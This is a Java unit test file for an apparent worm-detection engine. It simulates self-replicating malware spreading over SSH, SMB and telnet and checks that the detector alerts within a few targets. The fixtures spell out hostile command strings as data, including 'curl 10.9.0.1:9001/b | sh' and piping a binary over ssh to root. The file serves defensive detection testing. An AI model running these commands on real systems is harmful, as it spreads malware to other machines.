package dev.rubato.detect.replication;

import static dev.rubato.detect.replication.ReplicationStory.HOUR;
import static dev.rubato.detect.replication.ReplicationStory.X;
import static dev.rubato.detect.replication.ReplicationStory.target;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.rubato.alert.Alert;
import dev.rubato.alert.Severity;
import dev.rubato.event.Address;
import dev.rubato.event.Flow;
import dev.rubato.lineage.HostProcess;
import dev.rubato.lineage.HostStory;
import org.junit.jupiter.api.Test;

/** Worms in events: how many targets they get before they are found. */
class WormTest {
    private final ReplicationStory story = new ReplicationStory();

    private static double sum(Alert alert) {
        return alert.evidence().stream().mapToDouble(Alert.Evidence::nats).sum();
    }

    private void assertFoundByTarget(int targets) {
        assertFalse(story.alarms().isEmpty(), story.alerts::toString);
        Alert first = story.alarms().getFirst();
        assertTrue(
                first.events().stream()
                                .filter(event -> event.kind().equals("target"))
                                .count()
                        <= targets,
                first::toString);
        assertEquals(first.score(), sum(first), 1e-9, "the evidence explains the score");
        assertEquals(1, story.alarms().stream().map(Alert::id).distinct().count(), "one alert, then updates");
    }

    @Test
    void findsAnSshWormThatSendsItselfByItsSecondTarget() {
        HostProcess worm = story.child(story.login(story.sshd(), false, "/bin/bash", "-c", "/tmp/agent"), "/tmp/agent");
        for (int i = 1; i <= 3; i++) {
            story.scp(worm, "/tmp/agent", target(i), 700_000 + i);
            story.ssh(worm, target(i), "nohup", "/tmp/agent", "&");
            story.host.pause(8 * HOUR);
        }
        assertFoundByTarget(2);
        Alert alert = story.alarms().getFirst();
        assertEquals(Severity.HIGH, alert.severity());
        assertTrue(alert.summary().contains(X), alert.summary());
        assertTrue(alert.attack().contains("T1021.004"), alert.attack()::toString);
        assertTrue(story.suspicions.othersHalfway(worm.lineage(), "scan", 0), "part of an incident");
    }

    @Test
    void findsAWormThatSendsItselfUnderAnotherNameByItsThirdTarget() {
        HostProcess worm = story.child(story.login(story.sshd(), false, "/bin/sh"), "/dev/shm/.k");
        for (int i = 1; i <= 3; i++) {
            story.scp(worm, "/tmp/payload" + i * 7, target(i), 2_300_000 + i * 900);
            story.ssh(worm, target(i), "sh", "/tmp/payload" + i * 7);
        }
        assertFoundByTarget(3);
    }

    @Test
    void findsAWormWhoseCommandsDifferFromTargetToTarget() {
        HostProcess agent = story.child(
                story.login(story.sshd(), false, "/bin/sh", "-c", "python3 x.py"), "/usr/bin/python3", "/opt/x/x.py");
        HostProcess one = story.child(agent, "/bin/sh", "-c", "nmap -p22 10.9.1.1");
        story.refused(story.child(one, "/usr/bin/nmap", "-p22", target(1)), target(1), 23);
        story.scp(one, "/opt/x/bundle.tgz", target(1), 5_000_000);
        story.ssh(one, target(1), "tar xf /tmp/f; python3 x.py");
        story.host.pause(8 * HOUR);
        HostProcess two = story.child(agent, "/bin/bash", "-lc", "deploy");
        story.connects(
                story.child(two, "/usr/bin/rsync", "-az", "./", "admin@" + target(2) + ":w"),
                target(2),
                22,
                5_030_000,
                900);
        story.ssh(two, target(2), "cd w && ./start.sh");
        story.host.pause(8 * HOUR);
        HostProcess three = story.child(agent, "/bin/dash", "-c", "go");
        story.scp(three, "/var/tmp/b.bin", target(3), 4_960_000);
        story.ssh(three, target(3), "chmod", "+x", "/tmp/f", ";", "/tmp/f");
        assertFoundByTarget(3);
    }

    @Test
    void findsAFileThatIsPipedIntoSsh() {
        HostProcess worm = story.child(story.service(0, "/usr/bin/redis-server"), "/tmp/.w");
        for (int i = 1; i <= 4; i++) {
            HostProcess shell = story.child(worm, "/bin/sh", "-c", "cat /tmp/.w | ssh root@" + target(i));
            story.child(shell, "/bin/cat", "/tmp/.w");
            story.connects(
                    story.child(shell, "/usr/bin/ssh", "root@" + target(i), "cat > /tmp/.w; /tmp/.w"),
                    target(i),
                    22,
                    300_000,
                    900);
        }
        assertFoundByTarget(3);
        assertEquals("self-copy", story.alarms().getFirst().variant());
    }

    @Test
    void findsAWormThatServesItsBodyAndIsCalledBack() {
        HostProcess web = story.service(8080, "/opt/tomcat/bin/java", "-jar", "app.jar");
        story.accept(web, "203.0.113.5", 8080);
        HostProcess worm = story.child(web, "/tmp/kworker");
        story.host.listen(worm.key(), "0.0.0.0", 9_001);
        for (int i = 1; i <= 3; i++) {
            story.ssh(worm, target(i), "curl 10.9.0.1:9001/b | sh");
            int port = story.accept(worm, target(i), 9_001);
            story.acceptedEnds(target(i), port, 9_001, 120, 900_000);
        }
        assertFoundByTarget(3);
    }

    @Test
    void findsAnExploitOverSmbThatIsPassedOn() {
        CaptureStory capture = new CaptureStory();
        long[] steps = {88 + 275, 455, 137, 30_532};
        for (long step : steps) {
            capture.suffers(CaptureStory.X, 445, step, 420);
        }
        capture.pause(16);
        for (int i = 1; i <= 3; i++) {
            for (long step : steps) {
                capture.does("10.9.0." + (20 + i), 445, step + i, 431 + 7L * i);
            }
        }
        assertEquals(1, capture.alarms().stream().map(Alert::id).distinct().count(), capture.alerts::toString);
        Alert alert = capture.alarms().getFirst();
        assertEquals("server-turned-client", alert.variant());
        assertEquals(alert.score(), sum(alert), 1e-9);
        assertTrue(alert.summary().contains(CaptureStory.X), alert.summary());
    }

    @Test
    void findsATelnetLoaderThatIsPassedOnToPublicAddresses() {
        CaptureStory capture = new CaptureStory();
        for (long step : new long[] {40, 310, 1_900}) {
            capture.suffers("203.0.113.9", 23, step, 500);
        }
        capture.pause(5);
        for (int i = 1; i <= 4; i++) {
            for (long step : new long[] {40, 311, 1_902}) {
                capture.does("198.51.100." + i, 23, step, 520);
            }
        }
        assertFalse(capture.alarms().isEmpty(), capture.alerts::toString);
    }

    @Test
    void findsWhatAVictimPassesOnWhileItIsStillBeingUsed() {
        CaptureStory capture = new CaptureStory();
        Flow inbound = new Flow(
                Flow.Protocol.TCP, Address.parse(CaptureStory.SELF), 22, Address.parse(CaptureStory.X), 50_001);
        capture.tell(new dev.rubato.event.Event.ConnectionOpened(
                capture.nowNs, 0, inbound, Flow.Direction.INBOUND, null, dev.rubato.event.Event.Basis.PACKET));
        capture.pause(30);
        for (int i = 1; i <= 4; i++) {
            for (long step : new long[] {3_000, 90_000}) {
                capture.does("10.9.0.2" + i, 22, step, 2_900);
            }
        }
        capture.suffers(CaptureStory.X, 22, 3_010, 2_900);
        capture.tell(new dev.rubato.event.Event.ConnectionClosed(
                capture.nowNs, 0, inbound, 4_000, 90_400, dev.rubato.event.Event.Basis.PACKET));
        assertFalse(capture.alarms().isEmpty(), capture.alerts::toString);
        assertTrue(capture.alarms().getLast().summary().contains(CaptureStory.X));
    }

    @Test
    void aCaptureWithoutItsHostNamedJudgesEachAddressAsAHost() {
        CaptureStory capture = new CaptureStory();
        String victim = "192.0.2.20";
        long[] steps = {363, 455, 137, 30_532};
        for (long step : steps) {
            between(capture, "192.0.2.9", victim, step);
            between(capture, "192.0.2.9", "192.0.2.101", step);
        }
        capture.pause(5);
        for (int i = 1; i <= 3; i++) {
            for (long step : steps) {
                between(capture, victim, "192.0.2.10" + i, step);
            }
        }
        assertFalse(capture.alarms().isEmpty(), capture.alerts::toString);
        assertEquals(victim, capture.alarms().getFirst().subject().address());
    }

    private static void between(CaptureStory capture, String from, String to, long sent) {
        int port = 50_000 + (int) (sent % 10_000);
        Flow flow = new Flow(Flow.Protocol.TCP, Address.parse(from), port, Address.parse(to), 445);
        capture.tell(new dev.rubato.event.Event.ConnectionOpened(
                capture.nowNs, 0, flow, Flow.Direction.OUTBOUND, null, dev.rubato.event.Event.Basis.INFERRED));
        capture.tell(new dev.rubato.event.Event.ConnectionClosed(
                capture.nowNs, 0, flow, sent, 420, dev.rubato.event.Event.Basis.INFERRED));
    }

    @Test
    void shiftingTheStoryShiftsItsAlerts() {
        long shift = 86_400_000_000_000L * 3;
        ReplicationStory later = new ReplicationStory(HostStory.START_NS + shift, java.util.List.of());
        for (ReplicationStory each : java.util.List.of(story, later)) {
            HostProcess worm = each.child(each.login(each.sshd(), false, "/bin/sh"), "/tmp/agent");
            for (int i = 1; i <= 3; i++) {
                each.scp(worm, "/tmp/agent", target(i), 700_000);
                each.ssh(worm, target(i), "/tmp/agent");
            }
        }
        assertEquals(
                story.alerts.stream().map(alert -> alert.timeNs() + shift).toList(),
                later.alerts.stream().map(Alert::timeNs).toList());
        assertFalse(story.alerts.isEmpty());
    }
}
